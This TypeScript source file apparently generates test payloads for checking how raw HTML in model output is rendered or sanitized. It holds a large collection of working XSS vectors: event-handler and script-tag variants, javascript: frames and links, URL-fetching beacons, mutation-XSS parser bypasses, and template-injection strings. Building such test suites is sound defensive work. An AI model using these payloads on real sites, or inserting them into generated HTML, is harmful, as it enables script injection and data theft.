import { crossed, type Family, type Template } from '../payload'
import { ATTRIBUTE_SPELLINGS } from '../spelling'
import { FEW_SURROUNDINGS, SURROUNDINGS } from '../surroundings'

// Raw HTML as a model might write it: what runs by itself, what runs once somebody comes near, what fetches.

/** Tags with the events that fire on them, most of them by themselves. */
const HANDLERS: readonly (readonly [tag: string, event: string, rest?: string])[] = [
  ['img src=x', 'onerror'],
  ['img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="', 'onload'],
  ['image src=x', 'onerror'],
  ['svg', 'onload', '></svg>'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['input autofocus', 'onfocus'],
  ['input type=image src=x', 'onerror'],
  ['textarea autofocus', 'onfocus', '></textarea>'],
  ['select autofocus', 'onfocus', '></select>'],
  ['button autofocus', 'onfocus', '>a</button>'],
  ['a href=#x tabindex=1 autofocus', 'onfocus', '>a</a>'],
  ['a', 'onmouseover', '>a</a>'],
  ['a href=#x', 'onclick', '>a</a>'],
  ['div', 'onpointerenter', '>a</div>'],
  ['div contenteditable autofocus', 'onfocusin', '>a</div>'],
  ['p style="animation:a"', 'onanimationstart', '>a</p>'],
  ['b', 'onmousedown', '>a</b>'],
  ['video src=x', 'onerror', '></video>'],
  ['video', 'onloadstart', '><source src=x></video>'],
  ['audio src=x', 'onerror', '></audio>'],
  ['details open', 'ontoggle', '>a</details>'],
  ['iframe', 'onload', '></iframe>'],
  ['iframe src=about:blank', 'onload', '></iframe>'],
  ['object data=x', 'onerror', '></object>'],
  ['embed src=data:text/plain,a', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror', '></script>'],
  ['style', 'onload', '>a{}</style>'],
  ['marquee', 'onstart', '>a</marquee>'],
  ['form', 'onsubmit', '><button autofocus>a</button></form>'],
  ['math', 'onmouseover', '><mi>a</mi></math>'],
  ['dialog open', 'onfocus', '><input autofocus></dialog>'],
  ['x-y tabindex=1 autofocus', 'onfocus', '>a</x-y>'],
]

const handlers: Template[] = crossed(HANDLERS, ATTRIBUTE_SPELLINGS, (handler, spell) => [handler, spell] as const).map(
  ([[tag, event, rest = '>'], spell]): Template =>
    ({ js }) =>
      `<${tag}${spell(event, js)}${rest}`,
)

const SCRIPTS: readonly Template[] = [
  ({ js }) => `<script>${js}</script>`,
  ({ js }) => `<SCRIPT>${js}</SCRIPT >`,
  ({ js }) => `<script\n>${js}</script\n>`,
  ({ js }) => `<script type=module>${js}</script>`,
  ({ js }) => `<script>\n\n${js}\n\n</script>`,
  ({ js }) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  ({ js }) => `<script src="data:text/javascript,${js}"></script>`,
  ({ url }) => `<script src="${url}.js"></script>`,
  ({ url }) => `<script src=//${url.slice(7)}.js></script>`,
  ({ url }) => `<script type=module>import '${url}.js'</script>`,
  ({ js }) => `<script/x>${js}</script>`,
  ({ js }) => `<script>${js}`,
  ({ js }) => `<svg><script>${js}</script></svg>`,
  ({ js }) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  ({ js }) => `<template><script>${js}</script></template>`,
  ({ js }) => `<div><template shadowrootmode=open><img src=x onerror=${js}></template></div>`,
]

const FRAMES: readonly Template[] = [
  ({ js }) => `<iframe src="javascript:parent.${js}"></iframe>`,
  ({ js }) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  ({ js }) => `<iframe srcdoc="&lt;img src=x onerror=parent.${js}&gt;"></iframe>`,
  ({ url }) => `<iframe src="${url}"></iframe>`,
  ({ url }) => `<frameset><frame src="${url}"></frameset>`,
  ({ url }) => `<object data="${url}"></object>`,
  ({ js }) => `<object data="data:text/html,<script>parent.${js}</script>"></object>`,
  ({ url }) => `<embed src="${url}">`,
  ({ js }) => `<embed src="javascript:${js}">`,
  ({ url }) => `<portal src="${url}"></portal>`,
  ({ url }) => `<webview src="${url}" nodeintegration></webview>`,
  ({ js }) => `<iframe src="data:text/html,<script>parent.${js}</script>"></iframe>`,
]

const NAVIGATIONS: readonly Template[] = [
  ({ url }) => `<meta http-equiv=refresh content="0;url=${url}">`,
  ({ js }) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  ({ url }) => `<base href="${url}/"><a href=a>b</a>`,
  ({ url }) => `<form action="${url}"><input type=submit id=s></form><label for=s>a</label>`,
  ({ js }) => `<form action="javascript:${js}"><button>a</button></form>`,
  ({ js }) => `<form><button formaction="javascript:${js}">a</button></form>`,
  ({ url }) => `<a href="${url}" target=_blank>a</a>`,
  ({ url }) => `<a href="https://example.com" ping="${url}">a</a>`,
  ({ js }) => `<a href="javascript:${js}">a</a>`,
  ({ js }) => `<map name=m><area shape=default href="javascript:${js}"></map><img usemap=#m src=x>`,
  ({ url }) => `<a href="${url}" download>a</a>`,
  ({ url }) => `<dialog open><form method=dialog action="${url}"><button>a</button></form></dialog>`,
]

const FETCHES: readonly Template[] = [
  ({ url }) => `<img src="${url}.png">`,
  ({ url }) => `<img srcset="${url}.png 1x">`,
  ({ url }) => `<picture><source srcset="${url}.png"><img></picture>`,
  ({ url }) => `<img src=//${url.slice(7)}.png>`,
  ({ url }) => `<img loading=eager src="\n${url}.png">`,
  ({ url }) => `<input type=image src="${url}.png">`,
  ({ url }) => `<video poster="${url}.png"></video>`,
  ({ url }) => `<video src="${url}.mp4" autoplay></video>`,
  ({ url }) => `<audio src="${url}.mp3" autoplay></audio>`,
  ({ url }) => `<video><track default src="${url}.vtt"></video>`,
  ({ url }) => `<table background="${url}.png"><td>a</td></table>`,
  ({ url }) => `<body background="${url}.png">`,
  ({ url }) => `<link rel=stylesheet href="${url}.css">`,
  ({ url }) => `<link rel=preload as=image href="${url}.png">`,
  ({ url }) => `<link rel=prefetch href="${url}">`,
  ({ url }) => `<link rel=preconnect href="${url}">`,
  ({ url }) => `<link rel=dns-prefetch href="${url}">`,
  ({ url }) => `<link rel=icon href="${url}.ico">`,
  ({ url }) => `<link rel=manifest href="${url}.json">`,
  ({ url }) => `<link rel=modulepreload href="${url}.js">`,
  ({ url }) => `<style>@import '${url}.css'</style>`,
  ({ url }) => `<style>body{background:url(${url}.png)}</style>`,
  ({ url }) => `<style>@font-face{font-family:f;src:url(${url}.woff)}p{font-family:f}</style>`,
  ({ url }) => `<p style="background:url(${url}.png)">a</p>`,
  ({ url }) => `<p style="background-image:image-set('${url}.png' 1x)">a</p>`,
  ({ url }) => `<ul style="list-style:url(${url}.png)"><li>a</ul>`,
  ({ url }) => `<p style="cursor:url(${url}.cur),auto">a</p>`,
  ({ url }) => `<svg><image href="${url}.png"/></svg>`,
  ({ url }) => `<svg><use href="${url}.svg#a"/></svg>`,
  ({ url }) => `<svg><filter id=f><feImage href="${url}.png"/></filter></svg>`,
  ({ url }) => `<object type=image/png data="${url}.png"></object>`,
]

/** Parsers that disagree about where a text ends: what one takes for text, the next takes for markup. */
const MUTATIONS: readonly Template[] = [
  ({ js }) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js}&gt;">`,
  ({ js }) => `<svg></p><style><a id="</style><img src=x onerror=${js}>">`,
  ({ js }) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js}>`,
  ({ js }) => `<title><a title="</title><img src=x onerror=${js}>">`,
  ({ js }) => `<textarea><a title="</textarea><img src=x onerror=${js}>"></textarea>`,
  ({ js }) => `<xmp><p title="</xmp><img src=x onerror=${js}>"></xmp>`,
  ({ js }) => `<plaintext><img src=x onerror=${js}>`,
  ({ js }) => `<!--><img src=x onerror=${js}>-->`,
  ({ js }) => `<!--!><img src=x onerror=${js}>--!>`,
  ({ js }) => `<![CDATA[<img src=x onerror=${js}>]]>`,
  ({ js }) => `<svg><![CDATA[><img src=x onerror=${js}>]]></svg>`,
  ({ js }) => `<?xml a="><img src=x onerror=${js}>"?>`,
  ({ js }) => `</br><img src=x onerror=${js}>`,
  ({ js }) => `<a/b="<img src=x onerror=${js}>">`,
  ({ js }) => `<<img src=x onerror=${js}//<`,
  ({ js }) => `<img src=x onerror=${js}`,
  ({ js }) => `<img/src='x'/onerror='${js}'//`,
  ({ js }) => `<img src=x\u0000 onerror=${js}>`,
  ({ js }) => `<\u0000img src=x onerror=${js}>`,
  ({ js }) => `\uFF1Cimg src=x onerror=${js}\uFF1E`,
  ({ js }) => `&lt;img src=x onerror=${js}&gt;`,
  ({ js }) => `&amp;lt;img src=x onerror=${js}&amp;gt;`,
  ({ js }) => `&#60img src=x onerror=${js}&#62`,
  ({ js }) => `\\<img src=x onerror=${js}\\>`,
  ({ js }) => `"><img src=x onerror=${js}>`,
  ({ js }) => `'><img src=x onerror=${js}>`,
  ({ js }) => `--><img src=x onerror=${js}>`,
  ({ js }) => `</pre></code></p></div><img src=x onerror=${js}>`,
  ({ js }) => `\`<img src=x onerror=${js}>`,
  ({ js }) => `<form id=a><input name=attributes><input name=parentNode><img src=x onerror=${js}>`,
  ({ js }) => `<img name=getElementById><img name=querySelector src=x onerror=${js}>`,
  ({ js }) => `<a id=hit></a><a id=hit name=call href="x:${js}">`,
]

/** Names that other tools read where a text becomes part of a template, a shell, a spreadsheet or a page of theirs. */
const TEMPLATES: readonly Template[] = [
  ({ js }) => `{{constructor.constructor('${js}')()}}`,
  ({ js }) => `\${${js}}`,
  ({ js }) => `#{${js}}`,
  ({ js }) => `<%= ${js} %>`,
  ({ js }) => `{% raw %}<img src=x onerror=${js}>{% endraw %}`,
  ({ js }) => `<div v-html="'<img src=x onerror=${js}>'"></div>`,
  ({ js }) => `<div dangerouslySetInnerHTML={{__html: '<img src=x onerror=${js}>'}} />`,
  ({ js }) => `:::raw\n<img src=x onerror=${js}>\n:::`,
  ({ js }) => `---\ntitle: <img src=x onerror=${js}>\n---`,
  ({ js }) => `import A from 'a'\n\n<A onLoad={${js}} />\n\n{${js}}`,
  ({ js }) => `<jsx-el is="x" ref={${js}}></jsx-el>`,
]

function around(templates: readonly Template[], surroundings: readonly ((text: string) => string)[]): Template[] {
  return crossed(surroundings, templates, (wrap, template) => (aim) => wrap(template(aim)))
}

/** Everything that is raw HTML. */
export const HTML_FAMILIES: readonly Family[] = [
  { name: 'html handlers', templates: around(handlers, FEW_SURROUNDINGS) },
  { name: 'html scripts', templates: around(SCRIPTS, SURROUNDINGS) },
  { name: 'html frames', templates: around(FRAMES, SURROUNDINGS) },
  { name: 'html navigations', templates: around(NAVIGATIONS, SURROUNDINGS) },
  { name: 'html fetches', templates: around(FETCHES, FEW_SURROUNDINGS) },
  { name: 'html mutations', templates: around(MUTATIONS, FEW_SURROUNDINGS) },
  { name: 'templates of others', templates: around(TEMPLATES, FEW_SURROUNDINGS) },
]
